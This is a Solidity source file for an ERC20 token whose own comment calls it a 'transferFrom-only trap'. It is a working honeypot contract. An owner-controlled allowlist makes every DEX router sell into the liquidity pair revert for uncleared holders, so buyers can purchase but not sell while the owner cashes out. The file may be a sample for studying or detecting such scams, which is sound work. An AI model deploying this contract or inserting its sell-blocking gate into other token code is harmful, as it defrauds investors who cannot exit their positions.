// SPDX-License-Identifier: MIT
pragma solidity 0.8.28;

import {ERC20, Ownable, IDexRouter, IDexFactory} from "./Base.sol";

/// @title transferFrom-only trap: a holder's own transfer to the pair (a
/// direct sell) goes through, but a router's transferFrom into the pair,
/// the path every DEX sell takes, reverts for everyone the owner has not
/// cleared. Wallet-to-wallet transfers are ordinary.
contract RouterGateToken is ERC20, Ownable {
    address public immutable pair;
    mapping(address => bool) public cleared;

    error RouteNotSupported();

    constructor(address router, uint256 supply) ERC20("Route Gate", "RGATE") Ownable(msg.sender) {
        IDexRouter r = IDexRouter(router);
        pair = IDexFactory(r.factory()).createPair(address(this), r.WETH());
        cleared[msg.sender] = true;
        _mint(msg.sender, supply);
    }

    function setCleared(address account, bool value) external onlyOwner {
        cleared[account] = value;
    }

    function transferFrom(address from, address to, uint256 value) public override returns (bool) {
        if (to == pair && !cleared[from]) revert RouteNotSupported();
        return super.transferFrom(from, to, value);
    }
}
